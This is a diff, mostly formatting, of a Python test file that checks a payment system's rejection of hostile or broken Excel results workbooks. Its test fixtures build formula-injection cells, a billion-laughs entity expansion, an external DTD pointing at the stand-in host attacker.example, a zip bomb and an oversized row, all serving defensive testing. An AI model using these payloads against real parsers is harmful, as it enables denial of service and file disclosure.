@@ -1,4 +1,5 @@
 """A bank's results as an Excel workbook: the same line-by-line checks as CSV; hostile workbooks refused whole."""
+
 import io
 import zipfile
 from datetime import date
@@ -39,13 +40,18 @@ def rewrite(data, member, change):
 
 
 def unchanged(batch_row):
-    return db.session.scalar(select(func.count()).where(Payment.batch_id == batch_row.id,
-                                                        Payment.status != "sent")) == 0
+    return (
+        db.session.scalar(select(func.count()).where(Payment.batch_id == batch_row.id, Payment.status != "sent")) == 0
+    )
 
 
 def refused_reasons():
-    return [e.detail["reason"] for e in db.session.scalars(
-        select(AuditEntry).where(AuditEntry.action == "cycle.results_refused").order_by(AuditEntry.id))]
+    return [
+        e.detail["reason"]
+        for e in db.session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "cycle.results_refused").order_by(AuditEntry.id)
+        )
+    ]
 
 
 def test_an_excel_results_file_reconciles_the_batch_like_the_csv(svc, dispatched):
@@ -73,7 +79,7 @@ def test_bad_rows_of_a_workbook_are_refused_one_by_one_with_their_row_numbers(sv
         ["R", "PKH-TEST-T1-999999-1", fields[1][2], "CREDITED", "", TODAY.isoformat()],  # unknown
         fields[0],  # row 4: duplicate
         ["R", fields[1][1], int(fields[1][2]) + 1, "CREDITED", "", TODAY.isoformat()],  # amount
-        ["R", "=HYPERLINK(\"x\")", fields[2][2], "CREDITED", "", TODAY.isoformat()],  # text, not a formula
+        ["R", '=HYPERLINK("x")', fields[2][2], "CREDITED", "", TODAY.isoformat()],  # text, not a formula
         ["R", "A,B", fields[2][2], "CREDITED", "", TODAY.isoformat()],  # a comma cannot shift the fields
         ["R", fields[2][1], fields[2][2], "MAYBE", "", TODAY.isoformat()],  # bad status
     ]
@@ -90,19 +96,30 @@ def test_bad_rows_of_a_workbook_are_refused_one_by_one_with_their_row_numbers(sv
     row = upload(svc, bni, data, dispatched["fin1"], name="hasil.xlsx")
     assert row.status == "applied", row.refusals
     assert [(r["line"], r["code"]) for r in row.refusals] == [
-        (3, "UNKNOWN_REFERENCE"), (4, "DUPLICATE"), (5, "AMOUNT_MISMATCH"), (6, "MALFORMED"), (7, "MALFORMED"),
-        (8, "BAD_STATUS")]
+        (3, "UNKNOWN_REFERENCE"),
+        (4, "DUPLICATE"),
+        (5, "AMOUNT_MISMATCH"),
+        (6, "MALFORMED"),
+        (7, "MALFORMED"),
+        (8, "BAD_STATUS"),
+    ]
     assert row.accepted == 1 and batch("BNI").status == "partial"
 
 
 def _formula(data):
-    return rewrite(data, "xl/worksheets/sheet2.xml", lambda part: part.replace(
-        b"</row>", b'<c r="F2"><f>1+1</f><v>2</v></c></row>', 2))
+    return rewrite(
+        data,
+        "xl/worksheets/sheet2.xml",
+        lambda part: part.replace(b"</row>", b'<c r="F2"><f>1+1</f><v>2</v></c></row>', 2),
+    )
 
 
 def _error_value(data):
-    return rewrite(data, "xl/worksheets/sheet2.xml", lambda part: part.replace(
-        b"</row>", b'<c r="F2" t="e"><v>#REF!</v></c></row>', 2))
+    return rewrite(
+        data,
+        "xl/worksheets/sheet2.xml",
+        lambda part: part.replace(b"</row>", b'<c r="F2" t="e"><v>#REF!</v></c></row>', 2),
+    )
 
 
 def _laughs(data):
@@ -111,23 +128,33 @@ def _laughs(data):
         declaration, _, body = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
         body = body.replace("</sheetData>", '<row><c t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>', 1)
         return ((declaration + "?>" if declaration else "") + LAUGHS + body).encode()
+
     return rewrite(data, "xl/worksheets/sheet2.xml", change)
 
 
 def _dtd_in_content_types(data):
-    return rewrite(data, "[Content_Types].xml", lambda part: part.replace(
-        b"<Types", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><Types', 1))
+    return rewrite(
+        data,
+        "[Content_Types].xml",
+        lambda part: part.replace(b"<Types", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><Types', 1),
+    )
 
 
 def _zip_bomb(data):
-    return rewrite(data, "xl/worksheets/sheet2.xml",
-                   lambda part: part.replace(b"<sheetData>", b"<sheetData>" + b" " * (48 * 1024**2), 1))
+    return rewrite(
+        data,
+        "xl/worksheets/sheet2.xml",
+        lambda part: part.replace(b"<sheetData>", b"<sheetData>" + b" " * (48 * 1024**2), 1),
+    )
 
 
 def _wide_row(data):
     cells = b"".join(b'<c r="A1"><v>1</v></c>' for _ in range(20000))
-    return rewrite(data, "xl/worksheets/sheet2.xml", lambda part: part.replace(
-        b"</sheetData>", b'<row r="9">' + cells + b"</row></sheetData>", 1))
+    return rewrite(
+        data,
+        "xl/worksheets/sheet2.xml",
+        lambda part: part.replace(b"</sheetData>", b'<row r="9">' + cells + b"</row></sheetData>", 1),
+    )
 
 
 def _not_a_workbook(data):
@@ -158,17 +185,28 @@ def _other_layout(data):
 
 
 def _wrong_totals(data):
-    return rewrite(data, "xl/worksheets/sheet1.xml",
-                   lambda part: part.replace(b'<c r="B2" t="n"><v>', b'<c r="B2" t="n"><v>9', 1))
+    return rewrite(
+        data, "xl/worksheets/sheet1.xml", lambda part: part.replace(b'<c r="B2" t="n"><v>', b'<c r="B2" t="n"><v>9', 1)
+    )
 
 
-@pytest.mark.parametrize("hostile, reason", [
-    (_formula, "FORMULA"), (_error_value, "FORMULA"), (_laughs, "UNSAFE_WORKBOOK"), (_dtd_in_content_types, "UNSAFE_WORKBOOK"),
-    (_zip_bomb, "UNSAFE_WORKBOOK"), (_wide_row, "TOO_MANY_ROWS"), (_not_a_workbook, "NOT_EXCEL"),
-    (_text_named_xlsx, "NOT_EXCEL"), (_old_binary_xls, "NOT_EXCEL"), (_zip_without_sheets, "NOT_EXCEL"),
-    (_other_layout, "BAD_LAYOUT"),
-    (_wrong_totals, "CONTROL_TOTALS"),
-])
+@pytest.mark.parametrize(
+    "hostile, reason",
+    [
+        (_formula, "FORMULA"),
+        (_error_value, "FORMULA"),
+        (_laughs, "UNSAFE_WORKBOOK"),
+        (_dtd_in_content_types, "UNSAFE_WORKBOOK"),
+        (_zip_bomb, "UNSAFE_WORKBOOK"),
+        (_wide_row, "TOO_MANY_ROWS"),
+        (_not_a_workbook, "NOT_EXCEL"),
+        (_text_named_xlsx, "NOT_EXCEL"),
+        (_old_binary_xls, "NOT_EXCEL"),
+        (_zip_without_sheets, "NOT_EXCEL"),
+        (_other_layout, "BAD_LAYOUT"),
+        (_wrong_totals, "CONTROL_TOTALS"),
+    ],
+)
 def test_a_hostile_or_broken_workbook_is_refused_whole_and_changes_nothing(svc, dispatched, hostile, reason):
     bri = batch("BRI")
     data = hostile(workbook(results_lines(file_of(bri), TODAY)))
@@ -199,9 +237,12 @@ def test_the_page_takes_an_excel_results_file_and_names_why_a_hostile_one_is_ref
 
         def send(data, name):
             page = client.get("/cycles/PKH-TEST-T1").get_data(as_text=True)
-            return client.post("/cycles/PKH-TEST-T1/batches/BRI/results", data={
-                "csrf_token": csrf_of(page), "results": (io.BytesIO(data), name)},
-                content_type="multipart/form-data", follow_redirects=True).get_data(as_text=True)
+            return client.post(
+                "/cycles/PKH-TEST-T1/batches/BRI/results",
+                data={"csrf_token": csrf_of(page), "results": (io.BytesIO(data), name)},
+                content_type="multipart/form-data",
+                follow_redirects=True,
+            ).get_data(as_text=True)
 
         page = send(_laughs(good), "hasil.xlsx")
         assert "Berkas ditolak" in page or "ditolak" in page
